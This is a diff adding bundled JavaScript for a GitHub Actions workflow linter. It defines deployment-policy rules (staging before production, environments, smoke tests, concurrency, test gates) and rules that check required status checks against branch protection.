+    return new RegExp(`^(?:[^/\\s@]+/[^/\\s@]+/(?:[^@\\s]+/)?actions/${name}@|[.$]/(?:[^@\\s]+/)?actions/${name}/?$)`, 'i');
+}
+const DEPLOY_ACTION = ownAction('deploy');
+const SMOKE_ACTION = ownAction('smoke-test');
+const GATES_ACTION = ownAction('gates-enforcer');
+const ROOT_ACTION = /^[^/\s@]+\/phase-gates@/i;
+/** Inputs only our root action has: a root action renamed or forked is still recognised by them. */
+const ROOT_INPUTS = ['phase-file', 'provider'];
+/** Deploy actions of the field: `owner/repo[/path]` (lower case) and, when only some uses deploy, which. */
+const DEPLOY_ACTIONS = [
+    ['cloudflare/wrangler-action', (s) => { const c = deploy_jobs_input(s, 'command'); return c === undefined || /\b(?:deploy|publish)\b/.test(c) && !DRY_RUN.test(c); }],
+    ['cloudflare/pages-action'],
+    ['azure/webapps-deploy'],
+    ['azure/functions-action'],
+    ['azure/k8s-deploy'],
+    ['azure/container-apps-deploy-action'],
+    ['azure/static-web-apps-deploy', (s) => deploy_jobs_input(s, 'action')?.trim().toLowerCase() !== 'close'],
+    ['aws-actions/amazon-ecs-deploy-task-definition'],
+    ['aws-actions/aws-cloudformation-github-deploy'],
+    ['google-github-actions/deploy-cloudrun'],
+    ['google-github-actions/deploy-appengine'],
+    ['google-github-actions/deploy-cloud-functions'],
+    ['superfly/flyctl-actions', (s) => /\bdeploy\b/.test(deploy_jobs_input(s, 'args') ?? '')],
+    ['firebaseextended/action-hosting-deploy', (s) => deploy_jobs_input(s, 'channelId')?.trim() === 'live'],
+    ['amondnet/vercel-action', (s) => /--prod\b/.test(deploy_jobs_input(s, 'vercel-args') ?? '')],
+    ['nwtgck/actions-netlify', (s) => deploy_jobs_input(s, 'production-deploy')?.trim() === 'true'],
+    ['netlify/actions/cli', (s) => /\bdeploy\b.*--prod\b/.test(deploy_jobs_input(s, 'args') ?? '')],
+    ['akhileshns/heroku-deploy'],
+    ['bitovi/github-actions-deploy-eks-helm'],
+    ['deliverybot/helm']
+];
+/** Actions that deploy only where the job is a deploy job by its name or environment (they run anything remotely). */
+const GENERIC_ACTIONS = ['appleboy/ssh-action'];
+/** Deploy commands that say so themselves. */
+const DEPLOY_COMMAND = new RegExp([
+    String.raw `\bwrangler\s+(?:\S+\s+)*?(?:deploy|publish)\b`,
+    String.raw `\b(?:flyctl|fly)\s+deploy\b`,
+    String.raw `\bnetlify\s+deploy\b.*--prod\b`,
+    String.raw `\bvercel\b(?!\s+(?:build|pull|env|link)\b).*--prod\b`,
+    String.raw `\bfirebase\s+(?:\S+\s+)*?deploy\b`,
+    String.raw `\bgcloud\s+(?:\S+\s+)*?(?:run|app|functions)\s+deploy\b`,
+    String.raw `\baz\s+(?:webapp\s+(?:deploy|up)|containerapp\s+update|functionapp\s+deployment)\b`,
+    String.raw `\baws\s+(?:ecs\s+update-service|lambda\s+update-function-code|deploy\s+create-deployment)\b`,
+    String.raw `\b(?:cdk|sam|serverless|sls|kamal|eb)\s+deploy\b`,
+    String.raw `\bheroku\s+container:release\b`,
+    String.raw `\bgit\s+push\s+(?:\S+\s+)*?heroku\b`,
+    String.raw `\bcf\s+push\b`,
+    String.raw `\bdocker\s+stack\s+deploy\b`,
+    String.raw `(?:^|[\s/;&|])deploy[\w.-]*\.sh\b`,
+    String.raw `\bmake\s+(?:\S+\s+)*?deploy[\w:-]*(?=$|[\s;&|)])`,
+    String.raw `\b(?:npm|pnpm|bun)\s+(?:\S+\s+)*?run\s+deploy(?=$|[\s:;&|)])`,
+    String.raw `\byarn\s+(?!add\b|remove\b|install\b)(?:\S+\s+)*?deploy(?=$|[\s:;&|)])`
+].join('|'), 'i');
+/** Infrastructure commands that deploy only in a deploy job (by its name or environment); in CI they often target a throw-away cluster. */
+const GENERIC_COMMAND = /\b(?:kubectl\s+(?:\S+\s+)*?(?:apply|rollout|set\s+image)\b|helm\s+(?:\S+\s+)*?(?:upgrade|install)\b|helmfile\s+(?:\S+\s+)*?(?:apply|sync)\b|terraform\s+(?:\S+\s+)*?apply\b|pulumi\s+(?:\S+\s+)*?up\b|ansible-playbook\b)/i;
+const DRY_RUN = /--dry-run\b|--dryrun\b/i;
+const DEPLOY_NAME = /deploy|release|publish|rollout|production|prod\b/i;
+const SMOKE_COMMAND = /\b(?:curl|wget|smoke|health[-_ ]?check|healthz|readyz|livez)\b/i;
+const GATES_NAME = /^gates(?:[-_ ]?enforcer)?$/i;
+const PRODUCTION = /^(?:prod|production)$/i;
+const STAGING = /^(?:staging|stage|stg|pre-?prod|pre-?production)$/i;
+/** Longest run script read line by line for deploy commands (a bound on hostile input). */
+const MAX_RUN_CHARS = 20_000;
+function deploy_jobs_pos(token) {
+    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
+}
+/** The value of `key` in a mapping token, with its position. */
+function mappingValue(token, key) {
+    if (!token || !(0,dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token)
+        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
+            return pair.value;
+    return undefined;
+}
+/** A token as a reportable node. */
+function deploy_jobs_nodeOf(token) {
+    return { at: deploy_jobs_pos(token) };
+}
+/** A literal `true` (the parser may keep it as a boolean or a string). */
+function isTrue(token) {
+    return !!token && (0,dist/* isLiteral */.c$)(token) && token.toString().trim().toLowerCase() === 'true';
+}
+/** The environment name of `environment:` (a string, or a mapping with `name:`); literals only. */
+function environmentName(token) {
+    if (!token)
+        return undefined;
+    const name = (0,dist/* isMapping */.pi)(token) ? mappingValue(token, 'name') : token;
+    return name && (0,dist/* isLiteral */.c$)(name) ? name.toString().trim() : undefined;
+}
+/** A literal `with:` input of a step (undefined when absent or an expression). */
+function deploy_jobs_input(step, name) {
+    const value = step.with.get(name)?.value;
+    return value && (0,dist/* isLiteral */.c$)(value) ? value.toString() : undefined;
+}
+/** The `owner/repo[/path]` of a remote `uses:`, lower case, without its ref. */
+function actionOf(uses) {
+    const at = uses.indexOf('@');
+    return (at < 0 ? uses : uses.slice(0, at)).trim().toLowerCase();
+}
+/** Our deploy action, under any owner and repository name, or as `./…` / `$/…`. */
+function isDeployAction(uses) {
+    return !!uses && DEPLOY_ACTION.test(uses.trim());
+}
+/**
+ * Our root action: `owner/phase-gates@…`, or any `owner/repo@…`, `./` or `$/` given its inputs (a
+ * bare `uses: ./` is whatever action the repository holds: actions/checkout tests itself that way).
+ */
+function isRootAction(uses, step) {
+    if (!uses)
+        return false;
+    const value = uses.trim();
+    if (ROOT_ACTION.test(value))
+        return true;
+    return !!step && /^(?:[^/\s@]+\/[^/\s@]+@|[.$]\/?$)/.test(value) && ROOT_INPUTS.every((k) => step.with.has(k));
+}
+/** The lines of a `run:` that deploy by themselves, or (with `generic`) by infrastructure commands too. */
+function runDeploys(run, generic) {
+    for (const line of run.slice(0, MAX_RUN_CHARS).split('\n')) {
+        if (DRY_RUN.test(line))
+            continue;
+        if (DEPLOY_COMMAND.test(line) || (generic && GENERIC_COMMAND.test(line)))
+            return true;
+    }
+    return false;
+}
+/**
+ * A step that deploys: our deploy or root action, a deploy action of the field or a deploy
+ * command; with `generic` (the job is a deploy job by its name or environment), an
+ * infrastructure command or remote script too.
+ */
+function isDeployStep(step, generic = false) {
+    const uses = step.uses?.value;
+    if (uses) {
+        if (isDeployAction(uses) || isRootAction(uses, step))
+            return true;
+        const action = actionOf(uses);
+        const known = DEPLOY_ACTIONS.find(([name]) => action === name || action.startsWith(`${name}/`));
+        if (known)
+            return !known[1] || known[1](step);
+        return generic && GENERIC_ACTIONS.includes(action);
+    }
+    return !!step.run && runDeploys(step.run.value, generic);
+}
+/** A smoke test: our smoke-test action, or a run that probes the service (curl, wget, health check). */
+function isSmokeStep(step) {
+    if (step.uses && SMOKE_ACTION.test(step.uses.value.trim()))
+        return true;
+    return !!step.run && SMOKE_COMMAND.test(step.run.value);
+}
+/** A step running our gates-enforcer action. */
+function isGatesStep(step) {
+    return !!step.uses && GATES_ACTION.test(step.uses.value.trim());
+}
+/** A gates job: it runs our gates-enforcer action, or is named `gates` / `gates_enforcer`. */
+function isGatesJob(job) {
+    return GATES_NAME.test(job.id.value) || (!!job.name && GATES_NAME.test(job.name.value)) || job.steps.some(isGatesStep);
+}
+function isProduction(name) {
+    return PRODUCTION.test(name);
+}
+function isStaging(name) {
+    return STAGING.test(name);
+}
+/** The job as a deploy job, or undefined when it changes no running service. */
+function deployJob(job) {
+    const generic = job.environment !== undefined || DEPLOY_NAME.test(job.id.value) || (!!job.name && DEPLOY_NAME.test(job.name.value));
+    const deployStep = job.steps.find((s) => isDeployStep(s, generic));
+    if (!deployStep)
+        return undefined;
+    const ours = job.steps.filter((s) => isDeployAction(s.uses?.value) || isRootAction(s.uses?.value, s));
+    const environments = [];
+    const jobEnv = environmentName(job.environment);
+    if (jobEnv)
+        environments.push(jobEnv);
+    for (const step of ours) {
+        const value = step.with.get('environment')?.value;
+        if (value && (0,dist/* isLiteral */.c$)(value))
+            environments.push(value.toString().trim());
+    }
+    return {
+        job,
+        deployStep,
+        rootAction: ours.some((s) => isRootAction(s.uses?.value, s)),
+        environments,
+        production: environments.some(isProduction),
+        staging: environments.some(isStaging)
+    };
+}
+/** Every deploy job of the workflow, in file order. */
+function deployJobs(workflow) {
+    return workflow.jobs.map(deployJob).filter((d) => d !== undefined);
+}
+const dependentsOf = new WeakMap();
+/** The jobs that need each job directly, built once per workflow. */
+function dependents(workflow) {
+    let map = dependentsOf.get(workflow);
+    if (!map) {
+        map = new Map();
+        for (const job of workflow.jobs) {
+            for (const needed of neededJobs(workflow, job)) {
+                const list = map.get(needed);
+                if (list)
+                    list.push(job);
+                else
+                    map.set(needed, [job]);
+            }
+        }
+        dependentsOf.set(workflow, map);
+    }
+    return map;
+}
+/**
+ * The jobs that a job of `sources` waits for, directly or through other jobs (`upstream`), or that
+ * wait for one (`downstream`); job ids are case-insensitive. One breadth-first pass over the needs
+ * graph for all sources together: linear in the workflow, however many jobs it has. A source is in
+ * the result only when a path leads to it from a source: from another, or from itself around a
+ * cycle (which GitHub refuses, and PG111 reports).
+ */
+function reachable(workflow, sources, direction) {
+    const edges = direction === 'upstream' ? (j) => neededJobs(workflow, j) : (j) => dependents(workflow).get(j) ?? [];
+    const seen = new Set();
+    const queue = [...sources];
+    for (let i = 0; i < queue.length; i++) {
+        for (const next of edges(queue[i])) {
+            if (seen.has(next))
+                continue;
+            seen.add(next);
+            queue.push(next);
+        }
+    }
+    return seen;
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/production-before-staging.js
+
+
+const production_before_staging_rule = {
+    id: 'PG300',
+    name: 'production-before-staging',
+    level: 'error',
+    description: 'A production deploy job that does not come after a staging deploy job of the same workflow (through `needs:`).',
+    help: 'The deployment policy says: deploy to staging before production, always. A job deploying to `production` (or `prod`, by its `environment:` or the deploy action\'s `environment` input) must wait, directly or through other jobs, for a job deploying to `staging` in the same workflow, so that a commit reaches production only after it ran in staging. Add the staging deploy job to the production job\'s `needs:`.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                const deploys = deployJobs(workflow);
+                const staging = new Set(deploys.filter((d) => d.staging && !d.production).map((d) => d.job));
+                const afterStaging = reachable(workflow, staging, 'downstream');
+                for (const d of deploys) {
+                    if (!d.production)
+                        continue;
+                    if (afterStaging.has(d.job))
+                        continue;
+                    const hint = staging.size ? ` (add ${staging.size === 1 ? nameList([...staging].map((j) => j.id.value)) : `one of ${nameList([...staging].map((j) => j.id.value))}`} to its needs)` : ' (the workflow has no staging deploy job)';
+                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not come after a staging deploy${hint}`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const production_before_staging = (production_before_staging_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-environment.js
+
+const deploy_without_environment_rule = {
+    id: 'PG301',
+    name: 'deploy-without-environment',
+    level: 'warning',
+    description: 'A deploy job that is not bound to an `environment:`.',
+    help: 'GitHub environments carry the protection rules of a deployment (required reviewers, wait timers, allowed branches) and its secrets, and record the deployment history. A job that changes a running service (our deploy action under any repository name; a deploy action such as cloudflare/wrangler-action, azure/webapps-deploy or google-github-actions/deploy-cloudrun; a deploy command such as `wrangler deploy`, `flyctl deploy`, `./deploy.sh`, `make deploy` or `npm run deploy`; or, in a job named for deploying, `kubectl apply`, `helm upgrade` or `terraform apply`) without `environment:` bypasses all of them. Add `environment: <name>` (or `environment: { name, url }`) to the job. Package publishes, image builds, tag moves and approval-only jobs are not deploys.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                for (const d of deployJobs(workflow)) {
+                    if (d.job.environment !== undefined)
+                        continue;
+                    const target = d.environments.length ? ` (it deploys to "${d.environments[0]}")` : '';
+                    context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" is not bound to an environment:${target}`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_without_environment = (deploy_without_environment_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-smoke-test.js
+
+const deploy_without_smoke_test_rule = {
+    id: 'PG302',
+    name: 'deploy-without-smoke-test',
+    level: 'warning',
+    description: 'A deploy job that no smoke test follows: neither a later step of the job nor a job that needs it.',
+    help: 'The deployment policy says: run smoke tests after deployment. After the deploy step, a step of the same job must use our smoke-test action or probe the service (`curl`, `wget`, a health check), or a job that needs the deploy job must do so. The root action (`phase-gates@…`) runs its smoke tests itself.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                const beforeSmoke = reachable(workflow, workflow.jobs.filter((j) => j.steps.some(isSmokeStep)), 'upstream');
+                for (const d of deployJobs(workflow)) {
+                    if (d.rootAction)
+                        continue;
+                    const after = d.deployStep?.index ?? -1;
+                    if (d.job.steps.some((s) => s.index > after && isSmokeStep(s)))
+                        continue;
+                    if (beforeSmoke.has(d.job))
+                        continue;
+                    const at = d.deployStep ? (d.deployStep.uses ?? d.deployStep.run ?? d.deployStep) : d.job.id;
+                    context.report(workflow.file, at, `deploy job "${d.job.id.value}" is not followed by a smoke test (a smoke-test step after the deploy, or a job that needs it and runs one)`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_without_smoke_test = (deploy_without_smoke_test_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-concurrency.js
+
+const deploy_without_concurrency_rule = {
+    id: 'PG303',
+    name: 'deploy-without-concurrency',
+    level: 'warning',
+    description: 'A deploy job without `concurrency:` (on the job or its workflow), or with `cancel-in-progress: true`.',
+    help: 'Two runs deploying the same environment at once race each other; a `concurrency:` group (e.g. `group: deploy-${{ github.ref }}-production`) serializes them. `cancel-in-progress: true` cancels the deploy that is running when a new one starts, which leaves the environment half-deployed: keep it `false` (the default) for deploy jobs and for workflows that contain them.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                const deploys = deployJobs(workflow);
+                if (!deploys.length)
+                    return;
+                const workflowCancel = mappingValue(workflow.concurrency?.value, 'cancel-in-progress');
+                if (isTrue(workflowCancel)) {
+                    const ids = deploys.map((d) => `"${d.job.id.value}"`).join(', ');
+                    context.report(workflow.file, deploy_jobs_nodeOf(workflowCancel), `workflow concurrency cancels in progress, which can cancel deploy job${deploys.length > 1 ? 's' : ''} ${ids} half-way`);
+                }
+                for (const d of deploys) {
+                    if (d.job.concurrency === undefined) {
+                        if (workflow.concurrency === undefined) {
+                            context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" has no concurrency: group, so two deploys can run at once`);
+                        }
+                        continue;
+                    }
+                    const cancel = mappingValue(d.job.concurrency, 'cancel-in-progress');
+                    if (isTrue(cancel)) {
+                        context.report(workflow.file, deploy_jobs_nodeOf(cancel), `deploy job "${d.job.id.value}" cancels in progress, which can leave the environment half-deployed`);
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_without_concurrency = (deploy_without_concurrency_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-before-gates.js
+
+const deploy_before_gates_rule = {
+    id: 'PG304',
+    name: 'deploy-before-gates',
+    level: 'error',
+    description: 'A production deploy job that does not need (directly or through other jobs) a gates job.',
+    help: 'The deployment policy forbids deploying without automated tests passing. A production deploy job must wait, through `needs:`, for a job that enforces the gates: one that uses our gates-enforcer action (`…/actions/gates-enforcer`) or is named `gates` / `gates_enforcer`; a gates-enforcer step before the deploy step in the same job counts too, and the root action (`phase-gates@…`) enforces the gates itself.',
+    create(context) {
+        return {
+            workflowPost(workflow) {
+                const afterGates = reachable(workflow, workflow.jobs.filter(isGatesJob), 'downstream');
+                for (const d of deployJobs(workflow)) {
+                    if (!d.production || d.rootAction)
+                        continue;
+                    const before = d.deployStep?.index ?? d.job.steps.length;
+                    if (d.job.steps.some((s) => s.index < before && isGatesStep(s)))
+                        continue;
+                    if (afterGates.has(d.job))
+                        continue;
+                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not need a gates job (one running gates-enforcer), so it can deploy without the gates passing`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const deploy_before_gates = (deploy_before_gates_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/index.js
+
+
+
+
+
+const deployment_family = {
+    name: 'deployment',
+    title: 'Deployment policy',
+    description: 'The deployment policy: staging before production, environments, smoke tests, concurrency, gates.',
+    rules: [
+        production_before_staging,
+        deploy_without_environment,
+        deploy_without_smoke_test,
+        deploy_without_concurrency,
+        deploy_before_gates
+    ]
+};
+/* harmony default export */ const deployment = (deployment_family);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-checks.js
+/**
+ * Shared by the required-checks rules (PG400–PG402): the status check names the jobs of the
+ * checked workflows produce, as GitHub forms them, and whether a pull request can skip them.
+ */
+
+/** Pull request triggers whose filters leave a check pending forever. */
+const PR_TRIGGERS = ['pull_request', 'pull_request_target'];
+const required_checks_FILTERS = ['paths', 'paths-ignore', 'branches', 'branches-ignore'];
+/** Reads the source once per source object, whatever rule asks first. */
+const states = new WeakMap();
+function readRequired(source) {
+    let p = states.get(source);
+    if (!p) {
+        p = source.read();
+        states.set(source, p);
+    }
+    return p;
+}
+/** Most jobs a matrix may make in a workflow run (GitHub's limit). */
+const MAX_MATRIX_JOBS = 256;
+function literal(token) {
+    return token && (0,dist/* isLiteral */.c$)(token) ? token.toString() : undefined;
+}
+/** The literal matrix combinations of a job (axes, minus exclude, plus include); undefined when it has no matrix or it is not literal. */
+function matrixCombinations(job) {
+    const strategy = job.strategy;
+    if (!strategy || !(0,dist/* isMapping */.pi)(strategy))
+        return undefined;
+    let matrix;
+    for (const pair of strategy)
+        if (literal(pair.key) === 'matrix')
+            matrix = pair.value;
+    if (!matrix)
+        return undefined;
+    if (!(0,dist/* isMapping */.pi)(matrix))
+        return 'dynamic';
+    const axes = [];
+    const include = [];
+    const exclude = [];
+    const objects = (token, into) => {
+        if (!(0,dist/* isSequence */.wZ)(token))
+            return false;
+        for (const item of token) {
+            if (!(0,dist/* isMapping */.pi)(item))
+                return false;
+            const o = {};
+            for (const p of item) {
+                const k = literal(p.key);
+                const v = literal(p.value);
+                if (k === undefined || v === undefined)
+                    return false;
+                o[k] = v;
+            }
+            into.push(o);
+        }
+        return true;
+    };
+    for (const pair of matrix) {
+        const key = literal(pair.key);
+        if (key === undefined)
+            return 'dynamic';
+        if (key === 'include' || key === 'exclude') {
+            if (!objects(pair.value, key === 'include' ? include : exclude))
+                return 'dynamic';
+            continue;
+        }
+        if (!(0,dist/* isSequence */.wZ)(pair.value))
+            return 'dynamic';
+        const values = [];
+        for (const v of pair.value) {
+            const s = literal(v);
+            if (s === undefined)
+                return 'dynamic';
+            values.push(s);
+        }
+        axes.push([key, values]);
+    }
+    // GitHub refuses a matrix of more than 256 jobs (https://docs.github.com/en/actions/reference/limits):
+    // such a product is not expanded (it would be exponential in the axes), its names stay unknown.
+    if (axes.reduce((n, [, values]) => n * Math.max(values.length, 1), 1) > MAX_MATRIX_JOBS)
+        return 'dynamic';
+    let combos = axes.length ? [{}] : [];
+    for (const [key, values] of axes)
+        combos = combos.flatMap((c) => values.map((v) => ({ ...c, [key]: v })));
+    combos = combos.filter((c) => !exclude.some((e) => Object.entries(e).every(([k, v]) => c[k] === v)));
+    const axisNames = new Set(axes.map(([k]) => k));
+    for (const inc of include) {
+        // Added to every combination whose original values it does not overwrite; else a new combination.
+        const matching = combos.filter((c) => Object.entries(inc).every(([k, v]) => !axisNames.has(k) || c[k] === v));
+        if (matching.length) {
+            for (const c of matching)
+                Object.assign(c, inc);
+        }
+        else {
+            combos.push({ ...inc });
+            if (combos.length > MAX_MATRIX_JOBS)
+                return 'dynamic';
+        }
+    }
+    return combos;
+}
+/**
+ * The parser turns `test-${{ matrix.os }}` into `${{ format('test-{0}', matrix.os) }}`: back to
+ * the template, so that matrix values expand into it.
+ */
+function templateText(value) {
+    const m = /^\$\{\{\s*format\('((?:[^']|'')*)'\s*((?:,\s*[^,()]+?)*)\s*\)\s*\}\}$/.exec(value);
+    if (!m)
+        return value;
+    const args = m[2].split(',').map((a) => a.trim()).filter(Boolean);
+    return m[1]
+        .replace(/''/g, "'")
+        .replace(/\{\{|\}\}|\{(\d+)\}/g, (whole, i) => (whole === '{{' ? '{' : whole === '}}' ? '}' : args[Number(i)] !== undefined ? `\${{ ${args[Number(i)]} }}` : whole));
+}
+const EXPRESSION = /\$\{\{\s*(.*?)\s*\}\}/g;
+/** A job's check names as GitHub forms them (a regexp where run-time values remain). */
+function jobCheckNames(job) {
+    const base = job.name ? templateText(job.name.value) : job.id.value;
+    const combos = matrixCombinations(job);
+    const expand = (text, values) => {
+        let dynamic = false;
+        const name = text.replace(EXPRESSION, (whole, expr) => {
+            const m = /^matrix\.([\w-]+)$/.exec(expr);
+            if (m && m[1] in values)
+                return values[m[1]];
+            dynamic = true;
+            return whole;
+        });
+        if (!dynamic)
+            return { name };
+        const source = name
+            .split(EXPRESSION)
+            .map((part, i) => (i % 2 ? '.*' : part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')))
+            .join('');
+        return { name, pattern: new RegExp(`^${source}$`) };
+    };
+    if (combos === undefined || (Array.isArray(combos) && combos.length === 0))
+        return [expand(base, {})];
+    if (combos === 'dynamic')
+        return [/\$\{\{[^}]*matrix\./.test(base) ? expand(base, {}) : expand(`${base} (\${{ matrix }})`, {})];
+    const usesMatrix = /\$\{\{[^}]*matrix\./.test(base);
+    return combos.map((c) => (usesMatrix ? expand(base, c) : expand(`${base} (${Object.values(c).join(', ')})`, c)));
+}
+/** An `if:` that can be false: anything but `always()` and `true`. */
+function canSkip(condition) {
+    if (condition === undefined)
+        return false;
+    const c = condition.trim().replace(/^\$\{\{\s*(.*?)\s*\}\}$/, '$1').trim();
+    return !(c === 'true' || c === 'always()');
+}
+/** The filters of a workflow's pull request triggers that can leave it unstarted, e.g. `pull_request.paths`. */
+function prFilter(workflow) {
+    for (const trigger of PR_TRIGGERS) {
+        const entry = workflow.on.get(trigger);
+        if (!entry || !(0,dist/* isMapping */.pi)(entry.value))
+            continue;
+        for (const pair of entry.value) {
+            const key = literal(pair.key);
+            if (key && required_checks_FILTERS.includes(key)) {
+                const at = pair.key.range ? { line: pair.key.range.start.line, column: pair.key.range.start.column } : entry.key.at;
+                return { reason: `\`${trigger}.${key}\` of workflow ${workflow.file.path}`, node: { at } };
+            }
+        }
+    }
+    return undefined;
+}
+/** Every check name the jobs of the checked workflows produce, reusable workflows followed one level per call. */
+function producedChecks(project) {
+    const out = [];
+    for (const file of project.files) {
+        const workflow = file.model;
+        if (!workflow || workflow.kind !== 'workflow')
+            continue;
+        // A workflow only others call produces its checks under its callers' names.
+        if (workflow.on.size === 1 && workflow.workflowCall)
+            continue;
+        const filter = prFilter(workflow);
+        for (const job of workflow.jobs) {
+            const jobSkip = canSkip(job.if?.value) ? { reason: `the \`if:\` of job "${job.id.value}"`, node: job.if } : undefined;
+            const skip = filter ? { ...filter, hard: true } : jobSkip ? { ...jobSkip, hard: false } : undefined;
+            const names = jobCheckNames(job);
+            if (!job.uses) {
+                for (const n of names)
+                    out.push({ ...n, workflow, job, skip });
+                continue;
+            }
+            const callee = project.local(job.uses.value);
+            for (const caller of names) {
+                if (!callee || callee.kind !== 'workflow') {
+                    out.push({ name: `${caller.name} / …`, pattern: new RegExp(`^${required_checks_escape(caller.name)} / .*$`), workflow, job, skip });
+                    continue;
+                }
+                for (const inner of callee.jobs) {
+                    const innerSkip = skip ?? (canSkip(inner.if?.value) ? { reason: `the \`if:\` of job "${inner.id.value}" in ${callee.file.path}`, node: job.uses, hard: false } : undefined);
+                    for (const n of jobCheckNames(inner)) {
+                        const name = `${caller.name} / ${n.name}`;
+                        const pattern = caller.pattern || n.pattern ? new RegExp(`^${caller.pattern ? caller.pattern.source.slice(1, -1) : required_checks_escape(caller.name)} / ${n.pattern ? n.pattern.source.slice(1, -1) : required_checks_escape(n.name)}$`) : undefined;
+                        out.push({ name, pattern, workflow, job, skip: innerSkip });
+                    }
+                }
+            }
+        }
+    }
+    return out;
+}
+function required_checks_escape(text) {
+    return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
+/** The produced checks that give `name`. */
+function producersOf(name, produced) {
+    return produced.filter((p) => p.name === name || (p.pattern?.test(name) ?? false));
+}
+/** Where a finding about the whole set goes: the first workflow file (its `on:` pull request trigger or its top). */
+function firstWorkflow(project) {
+    for (const file of project.files) {
+        const model = file.model;
+        if (model?.kind !== 'workflow')
+            continue;
+        const trigger = PR_TRIGGERS.map((t) => model.on.get(t)).find(Boolean);
+        return { workflow: model, node: trigger?.key ?? model.name ?? { at: { line: 1, column: 1 } } };
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-required.js
+
+
+const required_check_not_required_rule = {
+    id: 'PG400',
+    name: 'required-check-not-required',
+    level: 'error',
+    description: 'A status check of the `required-checks` input that neither branch protection nor a ruleset of the base branch requires.',
+    help: 'A gate only protects the branch when its check is required: otherwise a pull request merges while `workflows_validation` or `gates_enforcer` fails or never ran. Add the check to the required status checks of the base branch (branch protection, or a ruleset with a "Require status checks to pass" rule), or change the `required-checks` input. Read with the `token` input; branch protection needs a token with administration read access (rulesets need only metadata), so with `GITHUB_TOKEN` alone only rulesets are known and this rule stays silent.',
+    create(context) {
+        let state;
+        return {
+            async prepare() {
+                if (context.requiredChecks)
+                    state = await readRequired(context.requiredChecks);
+            },
+            finish() {
+                const source = context.requiredChecks;
+                if (!source || !state || state.partial)
+                    return;
+                const required = new Set(state.required);
+                const produced = producedChecks(context.project);
+                const first = firstWorkflow(context.project);
+                for (const name of source.expected) {
+                    if (required.has(name))
+                        continue;
+                    const producer = producersOf(name, produced)[0];
+                    const where = producer ? { file: producer.workflow.file, node: producer.job.name ?? producer.job.id } : first && { file: first.workflow.file, node: first.node };
+                    if (!where)
+                        continue;
+                    context.report(where.file, where.node, `check "${name}" is not required on branch "${state.branch}" (required: ${nameList(state.required)})`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const required_check_not_required = (required_check_not_required_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-produced.js
+
+const required_check_not_produced_rule = {
+    id: 'PG401',
+    name: 'required-check-not-produced',
+    level: 'warning',
+    description: 'A status check the base branch requires that no job of the checked workflows produces under that name.',
+    help: 'GitHub names a check after the job: its `name:` (matrix values expanded), else its id; a matrix job without a name gives `id (value, value)` per combination, and a job calling a reusable workflow gives `caller / job`. A required check that nothing reports stays "Expected — Waiting for status to be reported" and blocks every pull request. Rename the job or fix the required check. A check that a GitHub App reports (not a workflow) is also reported here: disable the rule for it with `# phase-gates-disable PG401` or in the config.',
+    create(context) {
+        let state;
+        return {
+            async prepare() {
+                if (context.requiredChecks)
+                    state = await readRequired(context.requiredChecks);
+            },
+            finish() {
+                if (!state)
+                    return;
+                const first = firstWorkflow(context.project);
+                if (!first)
+                    return;
+                const produced = producedChecks(context.project);
+                for (const name of state.required) {
+                    if (producersOf(name, produced).length)
+                        continue;
+                    context.report(first.workflow.file, first.node, `required check "${name}" of branch "${state.branch}" is produced by no job of the checked workflows`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const required_check_not_produced = (required_check_not_produced_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-skippable.js
+
+const required_check_skippable_rule = {
+    id: 'PG402',
+    name: 'required-check-skippable',
+    level: 'warning',
+    description: 'A required status check produced only by workflows whose pull request trigger has `paths`/`branches` filters, or only by jobs with an `if:` that can skip them.',
+    help: 'A workflow that a `paths`, `paths-ignore`, `branches` or `branches-ignore` filter does not start never reports its checks, so a pull request that touches other files waits forever for a required check (error). A job that its `if:` skips reports success without running, so the required check passes unverified (warning). Produce the required check from a job that always runs (drop the filter and decide inside the job, or add a job with the same name that runs when the filter does not match).',
+    create(context) {
+        let state;
+        return {
+            async prepare() {
+                if (context.requiredChecks)
+                    state = await readRequired(context.requiredChecks);
+            },
+            finish() {
+                if (!state)
+                    return;
+                const produced = producedChecks(context.project);
+                for (const name of state.required) {
+                    const producers = producersOf(name, produced);
+                    if (!producers.length || producers.some((p) => !p.skip))
+                        continue;
+                    const hard = producers.find((p) => p.skip.hard);
+                    const p = hard ?? producers[0];
+                    const skip = p.skip;
+                    const why = hard ? 'a pull request it does not start waits for it forever' : 'a skipped job reports success without running';
+                    context.report(p.workflow.file, skip.node, `required check "${name}" can be skipped by ${skip.reason}: ${why}`, hard ? 'error' : undefined);
+                }
+            }
+        };
+    }
+};
